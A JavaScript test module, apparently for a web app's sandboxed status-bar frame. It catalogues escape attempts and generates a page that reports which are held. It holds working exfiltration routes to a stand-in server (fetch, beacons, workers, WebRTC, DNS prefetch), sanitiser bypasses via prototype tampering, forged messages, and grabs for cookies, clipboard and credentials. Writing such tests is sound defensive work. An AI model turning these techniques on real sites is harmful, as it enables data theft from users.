// What a hostile status bar may try. Each attempt runs inside the frame; it has escaped if it gives something true, and is
// held if it gives nothing or throws. `FOREIGN` and `STUN` name somebody else's server.
//
// NETWORK: these send something out from a page that nothing protects, and the control in the journey holds them to it.
// NAMES: these have a name looked up, which no policy stops, and a name can spell out what a bar was told; MARKUP does so
// without script. INSIDE: these reach for the page, the browser or the reader. LEAVING: each leads the frame somewhere else.

/* global FOREIGN, STUN */
/* eslint-disable no-undef */

const rtc = `
  const made = new RTCPeerConnection({ iceServers: [{ urls: STUN }] });
  made.createDataChannel('x');
  made.createOffer().then((offer) => made.setLocalDescription(offer));`;

export const NETWORK = {
  fetch: () => fetch(`${FOREIGN}/fetch`),
  'fetch without cors': () => fetch(`${FOREIGN}/fetch-without-cors`, { mode: 'no-cors' }),
  xhr: () => load(new XMLHttpRequest(), (xhr) => (xhr.open('GET', `${FOREIGN}/xhr`), xhr.send())),
  websocket: () => load(new WebSocket(`${FOREIGN.replace('http', 'ws')}/websocket`), () => {}, 'open'),
  eventsource: () => load(new EventSource(`${FOREIGN}/eventsource`), () => {}, 'open'),
  // It gives true, and is stopped later.
  beacon: () => void navigator.sendBeacon(`${FOREIGN}/beacon`, 'x'),
  img: () => load(new Image(), (img) => (img.src = `${FOREIGN}/img`)),
  srcset: () => load(new Image(), (img) => (img.srcset = `${FOREIGN}/srcset 1x`)),
  'svg image': () => put(`<svg><image href="${FOREIGN}/svg-image"/></svg>`),
  stylesheet: () => put(`<link rel="stylesheet" href="${FOREIGN}/stylesheet">`),
  'css import': () => put(`<style>@import url(${FOREIGN}/css-import);</style>`),
  'css url': () => put(`<div style="background:url(${FOREIGN}/css-url)">x</div>`),
  font: () => new FontFace('f', `url(${FOREIGN}/font)`).load(),
  script: () => load(document.createElement('script'), (script) => ((script.src = `${FOREIGN}/script`), document.body.append(script))),
  import: () => import(`${FOREIGN}/import`),
  'import of data': () => import(`data:text/javascript,fetch("${FOREIGN}/import-of-data")`).then(() => rest()),
  video: () => put(`<video src="${FOREIGN}/video" preload="auto"></video>`),
  audio: () => put(`<audio src="${FOREIGN}/audio" preload="auto"></audio>`),
  track: () => put(`<video crossorigin poster="${FOREIGN}/track"></video>`),
  object: () => put(`<object data="${FOREIGN}/object"></object>`),
  embed: () => put(`<embed src="${FOREIGN}/embed">`),
  iframe: () => put(`<iframe src="${FOREIGN}/iframe"></iframe>`),
  'iframe in srcdoc': () => put(`<iframe srcdoc='<img src="${FOREIGN}/iframe-in-srcdoc">'></iframe>`),
  'refresh in srcdoc': () => put(`<iframe srcdoc='<meta http-equiv="refresh" content="0;url=${FOREIGN}/refresh-in-srcdoc">'></iframe>`),
  prefetch: () => put(`<link rel="prefetch" href="${FOREIGN}/prefetch">`),
  preload: () => put(`<link rel="preload" as="image" href="${FOREIGN}/preload">`),
  modulepreload: () => put(`<link rel="modulepreload" href="${FOREIGN}/modulepreload">`),
  form: () => put(`<form action="${FOREIGN}/form" method="post" target="sink"><input name="a" value="b"></form><iframe name="sink"></iframe>`, (box) => box.querySelector('form').submit()),
  ping: () => put(`<a href="#ping" ping="${FOREIGN}/ping">x</a>`, (box) => box.querySelector('a').click()),
  'worker of a blob': () => {
    new Worker(URL.createObjectURL(new Blob([`fetch("${FOREIGN}/worker-of-a-blob")`])));
    return rest();
  },
  'worker that imports': () => {
    new Worker(URL.createObjectURL(new Blob([`importScripts("${FOREIGN}/worker-that-imports")`])));
    return rest();
  },
  'worker of data': () => {
    new Worker(`data:text/javascript,fetch("${FOREIGN}/worker-of-data")`);
    return rest();
  },
};

/** As [`NETWORK`], over UDP: past every policy, where the constructor is still there. */
export const WEBRTC = {
  'webrtc': () => void eval(RTC),
  'webrtc of a blank frame': () => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    frame.contentWindow.eval(`const STUN = ${JSON.stringify(STUN)}; ${RTC}`);
  },
  'webrtc in srcdoc': () => inner((frame, script) => (frame.srcdoc = script)),
  'webrtc in a handler of srcdoc': () => inner((frame, _, code) => (frame.srcdoc = `<img src="data:," onerror="${code}">`)),
  'webrtc in javascript:': () => inner((frame, _, code) => (frame.src = `javascript:${code}`)),
  'webrtc in data:': () => inner((frame, script) => (frame.src = `data:text/html,${encodeURIComponent(script)}`)),
  'webrtc in a blob': () => inner((frame, script) => (frame.src = URL.createObjectURL(new Blob([script], { type: 'text/html' })))),
};

/**
 * Elements of the bar's own text: each has the name in `url` looked up as it is shown, `.under` once the pointer is over it.
 */
export const MARKUP = {
  'link in the text': (url) => `<link rel="dns-prefetch" href="${url}">`,
  'link in capitals': (url) => `<LINK\nREL=preconnect HREF=${url}>`,
  'link in svg': (url) => `<svg><desc><link rel="dns-prefetch" href="${url}"></desc></svg>`,
  'anchor in the text': (url) => `<p><a class="under" href="${url}">x</a></p>`,
  'anchor in svg': (url) => `<svg width="99" height="30"><a class="under" href="${url}"><text y="20">xxxx</text></a></svg>`,
};

/** Each is given an address of its own. `LINK(url)` is the text of a `<link>`, `linked(url)` makes one. */
export const NAMES = {
  'link by createElement': (url) => void document.head.append(linked(document.createElement('link'), url)),
  'link by createElementNS': (url) => void document.body.append(linked(document.createElementNS('http://www.w3.org/1999/xhtml', 'x:link'), url)),
  'link that changes': (url) => {
    const link = document.head.appendChild(document.createElement('link'));
    link.setAttribute('rel', 'preconnect');
    link.setAttribute('href', url);
  },
  'link by innerHTML': (url) => put(LINK(url)),
  'link of an object': (url) => put({ toString: () => LINK(url) }),
  'link by outerHTML': (url) => void (document.body.appendChild(document.createElement('i')).outerHTML = LINK(url)),
  'link by insertAdjacentHTML': (url) => document.body.insertAdjacentHTML('beforeend', LINK(url)),
  'link by setHTMLUnsafe': (url) => document.body.appendChild(document.createElement('i')).setHTMLUnsafe(LINK(url)),
  'link by parseHTMLUnsafe': (url) => document.body.append(Document.parseHTMLUnsafe(LINK(url)).querySelector('link')),
  'link by a fragment': (url) => document.body.append(document.createRange().createContextualFragment(LINK(url))),
  'link by a parser': (url) => document.body.append(new DOMParser().parseFromString(LINK(url), 'text/html').querySelector('link')),
  'link by a parser of xml': (url) =>
    document.body.append(new DOMParser().parseFromString(`<link xmlns="http://www.w3.org/1999/xhtml" rel="dns-prefetch" href="${url}"/>`, 'text/xml').documentElement),
  'link by an entity': (url) => {
    const link = `&#60;link xmlns='http://www.w3.org/1999/xhtml' rel='dns-prefetch' href='${url}'/>`;
    document.body.append(new DOMParser().parseFromString(`<!DOCTYPE a [<!ENTITY x "${link}">]><a>&x;</a>`, 'text/xml').documentElement);
  },
  'link in a document of xml': (url) => {
    const box = document.createElementNS('http://www.w3.org/1999/xhtml', 'div');
    box.setAttributeNS('http://www.w3.org/2000/xmlns/', 'xmlns:h', 'http://www.w3.org/1999/xhtml');
    new Document().append(box);
    box.innerHTML = `<h:link rel="dns-prefetch" href="${url}"/>`;
    document.body.append(box);
  },
  'link by xslt': (url) => {
    const parse = (text) => new DOMParser().parseFromString(text, 'text/xml');
    const processor = new XSLTProcessor();
    const xsl = 'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"';
    processor.importStylesheet(parse(`<xsl:stylesheet ${xsl} version="1.0"><xsl:output method="html"/><xsl:template match="/"><link rel="dns-prefetch" href="${url}"/></xsl:template></xsl:stylesheet>`));
    document.body.append(processor.transformToFragment(parse('<a/>'), document));
  },
  'link in a template': (url) => {
    const template = document.createElement('template');
    template.innerHTML = `<template>${LINK(url)}</template>`;
    document.body.append(template.content.firstChild.content.cloneNode(true));
  },
  'link in a shadow': (url) => void (document.body.appendChild(document.createElement('p')).attachShadow({ mode: 'closed' }).innerHTML = LINK(url)),
  'link by a class of its own': (url) => {
    customElements.define('own-link', class extends HTMLLinkElement {}, { extends: 'link' });
    document.body.append(linked(document.createElement('link', { is: 'own-link' }), url));
  },
  'link by a constructor': (url) => {
    class Own extends HTMLLinkElement {}
    customElements.define('other-link', Own, { extends: 'link' });
    document.body.append(linked(new Own(), url));
  },
  'link in srcdoc': (url) => put(`<iframe srcdoc='${LINK(url)}'></iframe>`),
  'link in a frame of data': (url) => put(`<iframe src="data:text/html,${encodeURIComponent(LINK(url))}"></iframe>`),
  'link where the calls are spied on': (url) => {
    const { call, apply } = Function.prototype;
    const taken = [];
    Function.prototype.call = function (...args) { taken.push(this); return Reflect.apply(call, this, args); };
    Function.prototype.apply = function (...args) { taken.push(this); return Reflect.apply(apply, this, args); };
    const box = document.body.appendChild(document.createElement('div'));
    try {
      box.innerHTML = '<b></b>';
      box.insertAdjacentHTML('beforeend', '<b></b>');
    } finally {
      Object.assign(Function.prototype, { call, apply });
    }
    for (const native of [...taken, Object.getOwnPropertyDescriptor(Element.prototype, 'innerHTML').set]) Reflect.apply(native, box, [LINK(url)]);
  },
  'link where nothing matches': (url) => {
    const { exec } = RegExp.prototype;
    const { replace } = String.prototype;
    try { RegExp.prototype.exec = () => null; } catch {}
    String.prototype.replace = function () { return `${this}`; };
    put(LINK(url));
    String.prototype.replace = replace;
    try { RegExp.prototype.exec = exec; } catch {}
  },
  'link of what stands there': (url) => {
    const meta = document.querySelector('link, meta').cloneNode();
    // Of what has no parent, browsers refuse it or pass it over.
    try { meta.outerHTML = LINK(url); } catch {}
    document.head.append(linked(meta, url));
  },
  'anchor by innerHTML': (url) => put(`<p><a class="under" href="${url}">xxxx</a></p>`),
  'anchor by createElement': (url) => {
    const anchor = document.createElement('a');
    Object.assign(anchor, { href: url, className: 'under', textContent: 'xxxx' });
    anchor.setAttribute('href', url);
    document.body.appendChild(document.createElement('p')).append(anchor);
  },
  // Last: it takes the rest of the document with it.
  'link by writing': (url) => {
    document.write(`<p>x</p>${LINK(url)}`);
    document.close();
  },
};

export const INSIDE = {
  'the page': () => parent.document.body.innerHTML,
  'the page by name': () => top.document.title,
  'where the page is': () => parent.location.href,
  'the frame element': () => frameElement,
  'a word of the page': () => parent.localStorage.length,
  'top navigation': () => ((top.location = `${FOREIGN}/top`), 'went'),
  'top address': () => ((top.location.hash = '#/settings'), 'went'),
  'the history of the page': () => {
    history.go(-1);
    history.back();
  },
  'closing the page': () => top.close(),
  'a window': () => window.open(`${FOREIGN}/window`),
  'a refresh': () => document.head.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0;url=${FOREIGN}/refresh">`),
  'a link': () => put(`<a href="${FOREIGN}/link">x</a>`, (box) => box.querySelector('a').click()),
  'writing it anew': () => {
    document.open();
    document.write(`<img src="${FOREIGN}/written">${script(RTC)}`);
    document.close();
  },
  'the navigation': () => navigation.navigate(`${FOREIGN}/navigation`),
  'a window by a link': () => put(`<a href="${FOREIGN}/link" target="_blank">x</a>`, (box) => box.querySelector('a').click()),
  'top by a link': () => put(`<a href="${FOREIGN}/top-link" target="_top">x</a>`, (box) => box.querySelector('a').click()),
  'top by a form': () => put(`<form action="${FOREIGN}/top-form" target="_top"></form>`, (box) => box.querySelector('form').submit()),
  download: () => put(`<a href="data:text/plain,x" download="x.txt">x</a>`, (box) => box.querySelector('a').click()),
  localStorage: () => localStorage,
  sessionStorage: () => sessionStorage,
  indexedDB: () => load(indexedDB.open('fabula'), () => {}, 'success'),
  'databases': () => indexedDB.databases(),
  caches: () => caches.open('x'),
  cookies: () => ((document.cookie = 'a=b'), document.cookie),
  'private files': () => navigator.storage.getDirectory(),
  'storage access': () => document.requestStorageAccess().then(() => 'granted'),
  locks: () => navigator.locks.request('fabula', { steal: true }, () => 'held'),
  'a service worker': () => navigator.serviceWorker.register('frame.html'),
  'a shared worker': () => new SharedWorker('memory-worker.js'),
  'the page by fetch': () => fetch('index.html'),
  clipboard: () => navigator.clipboard.readText(),
  'writing the clipboard': () => navigator.clipboard.writeText('x').then(() => 'written'),
  'copying': () => document.execCommand('copy'),
  dialogs: () => confirm('x') || prompt('x'),
  fullscreen: () => document.body.requestFullscreen().then(() => 'full'),
  place: () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)),
  notifications: () => Notification.requestPermission().then((answer) => answer === 'granted'),
  credentials: () => navigator.credentials.get({ password: true }),
  domain: () => ((document.domain = '127.0.0.1'), 'set'),
  opener: () => opener,
  'the code of a nested frame': () => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    return frame.contentWindow.document;
  },
  'a policy that allows more': () => {
    document.head.insertAdjacentHTML('afterbegin', '<meta http-equiv="Content-Security-Policy" content="connect-src *">');
    return fetch(`${FOREIGN}/policy`);
  },
  'channels': () => {
    for (const name of ['fabula', 'fabula-tabs']) new BroadcastChannel(name).postMessage({ kind: 'changed', hacked: true });
  },
  'forged messages': () => {
    const forged = [
      null, 7, {}, [], 'send', { fabula: 'send' }, { fabula: 'draft', text: 'an object' }, new Map([['fabula', 'ready']]),
      '{"fabula":"send","text":"sent"}', '{"fabula":"draft"}', '{"fabula":"draft","text":["x"]}', '{"fabula":"draft","text":"x","send":true}',
      '{"fabula":"key"}', '{"fabula":"state","n":1}', '{"fabula":"begin","code":"x"}', '{"__proto__":{"fabula":"draft"},"text":"x"}',
      `{"fabula":"draft","text":"${'x'.repeat(1 << 20)}"}`, '[[[[', '{"fabula":"height","px":"9999px"}', '{"fabula":"seen","n":1e999}',
    ];
    for (const message of forged) parent.postMessage(message, '*');
  },
};

export const LEAVING = {
  'to a foreign address': () => (location = `${FOREIGN}/leaving`),
  'to data': () => (location = `data:text/html,${encodeURIComponent(script(RTC))}`),
  'to a blob': () => (location = URL.createObjectURL(new Blob([script(RTC)], { type: 'text/html' }))),
  'to nothing': () => (location = 'about:blank'),
  'to the page itself': () => (location = 'index.html'),
  'to itself again': () => location.reload(),
};

/** The address that an attempt of [`NAMES`] or [`MARKUP`] is given: it has a host of its own. */
export const addressOf = (name, domain) => `http://${slug(name)}.${domain}/`;
export const slug = (name) => name.toLowerCase().replaceAll(' ', '-');

/**
 * HTML that makes the attempts all at once, after `markup`; `outcomes` of its window tells how they went, `finished` when.
 */
export function attack(attempts, { origin, stun, domain }, markup = {}) {
  const table = Object.entries(attempts).map(([name, run]) => `${JSON.stringify(name)}: ${run}`);
  const elements = Object.entries(markup).map(([name, element]) => element(addressOf(name, domain)));
  return `<div id="box"></div>${elements.join('\n')}<script>
    var FOREIGN = ${JSON.stringify(origin)}, STUN = ${JSON.stringify(stun)}, RTC = ${JSON.stringify(rtc)};
    var outcomes = {}, finished = false;
    const rest = () => new Promise((done) => setTimeout(done, 700));
    const put = (html, then = () => {}) => {
      const box = document.body.appendChild(document.createElement('div'));
      box.innerHTML = html;
      then(box);
      return rest();
    };
    const load = (thing, start, good = 'load') => new Promise((done, fail) => {
      thing.addEventListener(good, () => done('loaded'));
      thing.addEventListener('error', () => fail(new Error('not loaded')));
      start(thing);
      rest().then(done);
    });
    const slug = ${slug}, addressOf = ${addressOf};
    const LINK = (url) => '<' + 'link rel="dns-prefetch preconnect" href="' + url + '">';
    const linked = (link, url) => (link.setAttribute('rel', 'dns-prefetch preconnect'), link.setAttribute('href', url), link);
    const script = (code) => '<' + 'script>const STUN = ' + JSON.stringify(STUN) + ';' + code + '</' + 'script>';
    const inner = (set) => {
      const frame = document.createElement('iframe');
      const code = ('const STUN = ' + JSON.stringify(STUN) + ';' + RTC).replaceAll('"', "'");
      set(frame, script(RTC), code);
      document.body.append(frame);
      return rest();
    };
    const attempts = { ${table.join(',\n')} };
    const made = Object.entries(attempts).map(async ([name, run]) => {
      try {
        const got = await Promise.race([run(addressOf(name, ${JSON.stringify(domain)})), rest()]);
        outcomes[name] = got ? 'ESCAPED: ' + got : 'held';
      } catch (error) {
        outcomes[name] = 'held: ' + error.name;
      }
    });
    Promise.all(made).then(() => (finished = true));
  </` + 'script>';
}
